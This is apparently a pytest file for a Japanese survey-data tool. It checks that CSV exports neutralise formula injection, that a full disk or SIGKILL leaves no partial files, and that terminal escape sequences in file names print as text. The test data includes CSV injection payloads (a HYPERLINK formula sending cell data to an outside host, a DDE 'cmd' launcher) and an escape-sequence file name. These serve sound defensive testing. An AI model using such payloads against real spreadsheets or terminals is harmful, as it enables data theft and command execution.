"""What chosho writes and prints when files come from outside (issue 25 items 12–14, issue 22 item 13).

Disk full is a real write failure: the command runs in a child process whose file size is
limited (``RLIMIT_FSIZE``, SIGXFSZ ignored: writes past it fail with EFBIG, as on a full disk).
Kills are real SIGKILLs at random moments of a run, a few per command so the suite stays fast.
"""

from __future__ import annotations

import os
import random
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

from db import open_store
from exports.layout import variables
from survey import Text, builtin
from tui.cli import main

from .export_helpers import scenario_store

ROOT = Path(__file__).resolve().parents[1]
# The file size limit holds only while the named function writes (the database itself is
# larger than the limit, and stays writable): a disk that fills while the output is written.
CHILD = (
    "import importlib, resource, signal, sys\n"
    "limit, where = int(sys.argv[1]), sys.argv[2]\n"
    f"sys.path.insert(0, {str(ROOT)!r})\n"
    "if limit:\n"
    "    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
    "    module_name, name = where.rsplit('.', 1)\n"
    "    module = importlib.import_module(module_name)\n"
    "    real = getattr(module, name)\n"
    "    def limited(*a, **k):\n"
    "        hard = resource.getrlimit(resource.RLIMIT_FSIZE)[1]\n"
    "        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, hard))\n"
    "        try:\n"
    "            return real(*a, **k)\n"
    "        finally:\n"
    "            resource.setrlimit(resource.RLIMIT_FSIZE, (hard, hard))\n"
    "    setattr(module, name, limited)\n"
    "from tui.cli import main\n"
    "sys.exit(main(sys.argv[3:]))\n"
)


def chosho(*args: str, file_limit: int = 0, where: str = "", **kw) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-c", CHILD, str(file_limit), where, *args], capture_output=True, text=True, timeout=120, **kw
    )


def start(*args: str) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-c", CHILD, "0", "", *args], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)


@pytest.fixture
def db(tmp_path):
    path = tmp_path / "chosho.sqlite"
    open_store(path, "clerk").close()
    return path


def no_traceback(done: subprocess.CompletedProcess) -> None:
    for text in (done.stdout, done.stderr):
        assert "Traceback" not in text and "Exception ignored" not in text and "Error" not in text, text


# -- 12. CSV injection in --data -----------------------------------------------------------------

ATTACKS = ['=HYPERLINK("http://example.invalid/?"&A1,"詳細")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "'=quoted"]


def test_formulas_in_text_answers_are_neutralised_in_the_csv_only(tmp_path):
    scenario_store(tmp_path / "db.sqlite", {
        "政策課": {"Q22": Text(ATTACKS[0]), "Q10": Text(ATTACKS[2]), "Q20": Text(ATTACKS[3])},
        "総務課": {"Q20": Text(ATTACKS[1])}, "シティプロモーション課": {"Q11": Text(ATTACKS[4])},
    }).close()
    assert main(["--db", str(tmp_path / "db.sqlite"), "export", "--data", str(tmp_path / "out")]) == 0
    raw = pd.read_csv(tmp_path / "out" / "chosho_data.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    texts = [v.name for v in variables(builtin()) if v.kind in ("text", "box")] + ["部局", "所属", "状態"]
    cells = [c for column in texts for c in raw[column]]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]  # the scenario's own "=1+1", "@x" too
    shown = raw.set_index("所属")
    assert shown.loc["政策課", "Q22"] == "'" + ATTACKS[0] and shown.loc["総務課", "Q20"] == "'" + ATTACKS[1]
    assert shown.loc["政策課", "Q10"] == "'-2+3" and shown.loc["政策課", "Q20"] == "'@SUM(1+1)"
    assert shown.loc["シティプロモーション課", "Q11"] == "''=quoted"  # one quote off gives every text back
    assert shown.loc["政策課", "Q3_5_text"] == "'=1+1"
    back = shown["Q11"].str.replace(r"^'", "", n=1, regex=True)
    assert back["シティプロモーション課"] == ATTACKS[4]
    stata = pd.read_stata(tmp_path / "out" / "chosho_data.dta", convert_categoricals=False).set_index("所属")
    assert stata.loc["政策課", "Q22"] == ATTACKS[0] and stata.loc["政策課", "Q10"] == "-2+3"  # as written
    readme = (tmp_path / "out" / "読み込み方.txt").read_text(encoding="utf-8")
    assert "CSV インジェクション" in readme and "先頭の ' を一つだけ取り除きます" in readme


# -- 13. disk full and kills leave nothing half-made -----------------------------------------------


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.rglob("*") if p.name.startswith(".") or p.name.endswith((".part", ".tmp")))


def on_a_small_disk(tmp_path: Path, size: str, *args: str) -> tuple[subprocess.CompletedProcess, Path]:
    """Run chosho with ``{disk}`` in its arguments standing for a tiny tmpfs (a private mount
    namespace, gone with the process); skipped where mounting is not allowed."""
    disk = tmp_path / "disk"
    disk.mkdir()
    command = " ".join(f'"{a}"' for a in [sys.executable, "-c", CHILD, "0", "", *(x.format(disk=disk) for x in args)])
    try:
        done = subprocess.run(
            ["unshare", "--mount", "--propagation", "private", "sh", "-c",
             f'mount -t tmpfs -o size={size} tmpfs "{disk}" || exit 97; {command}; rc=$?; ls -A "{disk}" >&2; exit $rc'],
            capture_output=True, text=True, timeout=120,
        )
    except FileNotFoundError:
        pytest.skip("unshare is not installed")
    if done.returncode == 97 or "unshare failed" in done.stderr or "Operation not permitted" in done.stderr:
        pytest.skip("no permission to mount a small filesystem here")
    return done, disk


def test_forms_on_a_full_disk_leave_no_form_and_no_traceback(db, tmp_path):
    done, _disk = on_a_small_disk(tmp_path, "200k", "--db", str(db), "forms", "-o", "{disk}/forms")
    assert done.returncode == 3, done.stderr
    assert "を書けませんでした（ディスクの空き容量が足りません）。この実行で作った様式は消しました。" in done.stderr
    no_traceback(done)
    assert done.stderr.rstrip().endswith("消しました。")  # `ls -A` of the disk printed nothing after it


def test_forms_failing_part_way_remove_the_forms_of_the_run(db, tmp_path, monkeypatch, capsys):
    import exports.forms as forms

    real, calls = forms.write_form, []

    def fourth_fails(path, *a, **kw):
        calls.append(path)
        if len(calls) == 4:
            raise forms.FormError("様式を書けませんでした（No space left on device）。")
        return real(path, *a, **kw)

    monkeypatch.setattr(forms, "write_form", fourth_fails)
    (tmp_path / "forms").mkdir()
    assert main(["--db", str(db), "forms", "-o", str(tmp_path / "forms")]) == 3
    assert not list((tmp_path / "forms").iterdir())


def test_export_on_a_full_disk_says_so_once(tmp_path):
    scenario_store(tmp_path / "full.sqlite").close()
    done, _disk = on_a_small_disk(tmp_path, "64k", "--db", str(tmp_path / "full.sqlite"), "export", "-o", "{disk}/book.xlsx")
    assert done.returncode == 3, done.stderr
    assert "書き込めませんでした（ディスクの空き容量が足りません）" in done.stderr and "Errno" not in done.stderr
    no_traceback(done)
    assert done.stderr.rstrip().endswith("ファイルは作っていません。")  # nothing left on the disk


def _kill_while_writing(args: list[str], out: Path, rng: random.Random, times: int) -> None:
    """Start the command, wait until it has begun writing into ``out``, and SIGKILL it at a
    random moment within the next few milliseconds; ``times`` kills, a few more (bounded) if
    none of them landed before the run finished."""
    for attempt in range(times * 2):
        if attempt >= times and leftovers(out):
            return
        before = set(out.iterdir())
        proc = start(*args)
        deadline = time.monotonic() + 60
        while proc.poll() is None and time.monotonic() < deadline and not (set(out.iterdir()) - before):
            time.sleep(0.001)
        time.sleep(rng.uniform(0, 0.005))
        if proc.poll() is None:
            proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=60)


@pytest.mark.parametrize("command", ["export", "data", "forms", "backup"])
def test_a_killed_run_leaves_nothing_once_run_again(tmp_path, command):
    """SIGKILL at random moments of the writing (three per command): the next run removes what
    the killed ones left, and its own output is whole."""
    database = tmp_path / "chosho.sqlite"
    store = scenario_store(database)
    if command == "backup":  # a database big enough that its copy takes a moment to kill
        from db.originals import add_original

        add_original(store, store.departments()[0].id, "scan.pdf", b"%PDF-1.4\n" + os.urandom(48 << 20))
    store.close()
    out = tmp_path / "out"
    out.mkdir()
    target = {"export": out / "book.xlsx", "data": out, "forms": out, "backup": out / "copy.sqlite"}[command]
    args = {
        "export": ["--db", str(database), "export", "-o", str(target)],
        "data": ["--db", str(database), "export", "--data", str(target)],
        "forms": ["--db", str(database), "forms", "-o", str(target)],
        "backup": ["--db", str(database), "backup", "--overwrite", str(target)],
    }[command]
    rng = random.Random(int(os.environ.get("CHOSHO_KILL_SEED", "25")))
    _kill_while_writing(args, out, rng, 3)
    assert leftovers(out), "the kills came too late to leave anything: the test proves nothing"
    done = chosho(*args)
    assert done.returncode == 0, done.stderr
    assert leftovers(out) == []
    if command == "backup":
        with sqlite3.connect(target) as conn:
            assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


# -- 14. what reaches the terminal ----------------------------------------------------------------


def test_escape_sequences_in_file_names_are_printed_as_text(db, tmp_path):
    name = tmp_path / "esc\x1b]0;PWNED\x07\x1b[31mred.csv"
    name.write_text("部局,所属,Q1\n総務部,総務課,9\n", encoding="utf-8")
    done = chosho("--db", str(db), "import", str(name))
    assert done.returncode == 1
    assert "\x1b" not in done.stderr + done.stdout and "\x07" not in done.stderr
    assert "esc\\x1b]0;PWNED\\x07\\x1b[31mred.csv" in done.stderr


@pytest.mark.parametrize("kind", ["fifo", "zero"])
def test_a_fifo_or_device_given_to_import_is_named_as_what_it_is(db, tmp_path, kind):
    if kind == "fifo":
        path = tmp_path / "answers.csv"
        os.mkfifo(path)
        said = "名前付きパイプ（FIFO）"
    else:
        path = tmp_path / "answers.xlsx"
        path.symlink_to("/dev/zero")
        said = "デバイス"
    done = chosho("--db", str(db), "import", str(path))
    assert done.returncode == 3 and said in done.stderr and "がありません" not in done.stderr, done.stderr
    no_traceback(done)


def test_messages_name_no_exception_class(db, tmp_path):
    import zipfile

    from exports.forms import write_forms

    with open_store(db, "clerk") as store:
        [made] = write_forms(store, tmp_path, department="総務課")
    damaged = tmp_path / "damaged.xlsx"  # a form whose sheet is cut off half-way
    with zipfile.ZipFile(made) as src, zipfile.ZipFile(damaged, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            dst.writestr(item.filename, data[: len(data) // 2] if item.filename == "xl/worksheets/sheet1.xml" else data)
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04" + os.urandom(3000))
    text = tmp_path / "text.xlsx"
    text.write_text("not a workbook")
    done = chosho("--db", str(db), "import", str(damaged), str(broken), str(text))
    assert done.returncode == 3
    assert "damaged.xlsx: 取り込めない箇所が 1 件" in done.stderr
    for word in ("ParseError", "ValueError", "MemoryError", "BadZipFile", "KeyError", "Exception", "Errno"):
        assert word not in done.stderr + done.stdout, done.stderr


def test_verify_on_an_exclusively_locked_database_exits_3(db):
    holder = sqlite3.connect(db, isolation_level=None)
    holder.execute("PRAGMA locking_mode = EXCLUSIVE")
    holder.execute("BEGIN EXCLUSIVE")
    try:
        done = chosho("--db", str(db), "verify")
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert done.returncode == 3, (done.stdout, done.stderr)
    assert "使用中" in done.stderr and "locked" not in done.stderr


# -- issue 22 item 13 -----------------------------------------------------------------------------


def test_backup_refuses_an_existing_file_without_overwrite(db, tmp_path, capsys):
    target = tmp_path / "bk.sqlite"
    target.write_bytes(b"precious")
    assert main(["--db", str(db), "backup", str(target)]) == 3
    assert "上書きしませんでした" in capsys.readouterr().err and target.read_bytes() == b"precious"
    assert main(["--db", str(db), "backup", "--overwrite", str(target)]) == 0
    with sqlite3.connect(target) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_a_migration_killed_again_and_again_leaves_one_copy(tmp_path):
    """SIGKILL after the copy, before the migration commits (three times; the migration is
    slowed so that the kill lands there): one copy remains, and the next opening migrates."""
    from db.store import SCHEMA_VERSION

    from .test_store_migration import build_v1

    path = tmp_path / "chosho.sqlite"
    build_v1(path)
    slow = (
        "import sys, time\n"
        f"sys.path.insert(0, {str(ROOT)!r})\n"
        "import db.opening, db.store\n"  # the migration runs in db/opening.py (issue 23)
        "real = db.opening.migrations\n"
        "def slow():\n"
        "    time.sleep(30)\n"
        "    return real()\n"
        "db.opening.migrations = slow\n"
        "db.store.open_store(sys.argv[1], 'alice')\n"
    )
    rng = random.Random(int(os.environ.get("CHOSHO_KILL_SEED", "25")))
    for attempt in range(3):
        time.sleep(1.1)  # copies are stamped to the second: this attempt's has a new name
        started = time.time()
        proc = subprocess.Popen([sys.executable, "-c", slow, str(path)], stderr=subprocess.DEVNULL)

        def copied() -> bool:  # this attempt's copy is complete (the migration now sleeps)
            done = [p for p in tmp_path.glob("chosho.v1-before-*.sqlite") if p.stat().st_mtime >= started - 1]
            return bool(done) and not list(tmp_path.glob("chosho.v1-before-*.part"))

        deadline = time.monotonic() + 60
        while not copied() and time.monotonic() < deadline:
            time.sleep(0.005)
        time.sleep(rng.uniform(0, 0.3))
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=60)
        with sqlite3.connect(path) as conn:
            assert conn.execute("PRAGMA user_version").fetchone()[0] == 1  # not migrated: killed in time
        assert len(list(tmp_path.glob("chosho.v1-before-*"))) == 1, sorted(p.name for p in tmp_path.iterdir())
    with open_store(path, "alice") as store:
        assert store.conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
    copies = sorted(p.name for p in tmp_path.glob("chosho.v1-before-*"))
    assert len(copies) == 1 and copies[0].endswith(".sqlite"), copies
